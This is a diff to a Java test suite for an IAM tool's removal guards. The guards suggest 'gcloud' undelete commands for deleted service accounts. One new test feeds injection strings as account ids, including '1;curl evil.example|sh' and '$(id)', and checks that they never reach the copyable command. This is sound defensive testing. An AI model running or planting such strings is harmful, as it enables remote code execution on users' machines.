@@ -16,6 +16,7 @@ import dev.kleos.iam.model.RandomIam;
 import dev.kleos.iam.model.Resource;
 import dev.kleos.iam.model.ServiceAccount;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.LinkedHashSet;
 import java.util.List;
 import java.util.Set;
@@ -279,20 +280,71 @@ class RemovalGuardsTest {
 
   @Test
   void anAccount_isNotCreatedOverTheTraceOfItsName_unlessItIsSaid() {
-    var trace = grant(INVOKER, "deleted:" + ACCOUNT.principal() + "?uid=123456789012345678901");
-    var lost =
-        new Finding.Lost(ACCOUNT.principal(), false, List.of(new Finding.Trace(SERVICE, trace)));
-    var create = new Change.CreateServiceAccount(ServiceAccount.desired(ACCOUNT, null, null));
-    var changes = new ChangeSet(List.of(create), List.of(), List.of(), List.of(lost), List.of());
+    var changes = creationOver("123456789012345678901");
 
-    var refusals = Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, null));
-    assertThat(refusals).hasSize(1);
-    assertThat(refusals.getFirst().override())
-        .contains(
-            "gcloud iam service-accounts undelete 123456789012345678901 --project kleos-demo",
-            "--allow recreate");
+    assertThat(Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, null)))
+        .extracting(Refusal::override)
+        .containsExactly(
+            "to have it back with its grants, up to 30 days after its deletion: gcloud iam"
+                + " service-accounts undelete 123456789012345678901 --project kleos-demo; or add"
+                + " --allow recreate");
     assertThat(Guard.check(plan(SERVICE), changes, safety(consent(Consent.RECREATE), null)))
         .isEmpty();
+  }
+
+  @Test
+  void anAccountThatWasDeletedMoreThanOnce_isOfferedUnderEachOfItsIds() {
+    assertThat(Guard.check(plan(SERVICE), creationOver("12", "34"), safety(Overrides.NONE, null)))
+        .extracting(Refusal::override)
+        .containsExactly(
+            "to have it back with its grants, up to 30 days after its deletion: gcloud iam"
+                + " service-accounts undelete 12 --project kleos-demo, or gcloud iam"
+                + " service-accounts undelete 34 --project kleos-demo; or add --allow recreate");
+  }
+
+  /// People copy the command, and Google's answer decides what stands in it.
+  @Test
+  void whatCanBeNoUniqueId_isNoPartOfACommand() {
+    var changes = creationOver("1;curl evil.example|sh", "2?uid=$(id)", "");
+
+    assertThat(Guard.check(plan(SERVICE), changes, safety(Overrides.NONE, null)))
+        .extracting(Refusal::override)
+        .containsExactly(
+            "to have it back with its grants, up to 30 days after its deletion: undelete it by its"
+                + " unique id; or add --allow recreate");
+  }
+
+  @Test
+  void aTraceThatItsAccountCanBeRestoredBy_isNotDropped_unlessItIsSaid() {
+    var trace = grant(INVOKER, "deleted:" + ACCOUNT.principal() + "?uid=12");
+    var lost =
+        new Finding.Lost(ACCOUNT.principal(), false, List.of(new Finding.Trace(SERVICE, trace)));
+    var drop =
+        new ChangeSet(
+            List.of(modify(SERVICE, List.of(trace), List.of(trace))),
+            List.of(),
+            List.of(),
+            List.of(lost),
+            List.of());
+
+    assertThat(Guard.check(plan(SERVICE), drop, safety(Overrides.NONE, null)))
+        .extracting(Refusal::evidence)
+        .containsExactly(
+            "would drop what "
+                + ACCOUNT.principal()
+                + " had been granted, though it was deleted and may be restored");
+    assertThat(Guard.check(plan(SERVICE), drop, safety(consent(Consent.RECREATE), null))).isEmpty();
+  }
+
+  private static ChangeSet creationOver(String... uniqueIds) {
+    var traces =
+        Arrays.stream(uniqueIds)
+            .map(id -> grant(INVOKER, "deleted:" + ACCOUNT.principal() + "?uid=" + id))
+            .map(trace -> new Finding.Trace(SERVICE, trace))
+            .toList();
+    var lost = new Finding.Lost(ACCOUNT.principal(), false, traces);
+    var create = new Change.CreateServiceAccount(ServiceAccount.desired(ACCOUNT, null, null));
+    return new ChangeSet(List.of(create), List.of(), List.of(), List.of(lost), List.of());
   }
 
   private static List<Grant> users(int number) {
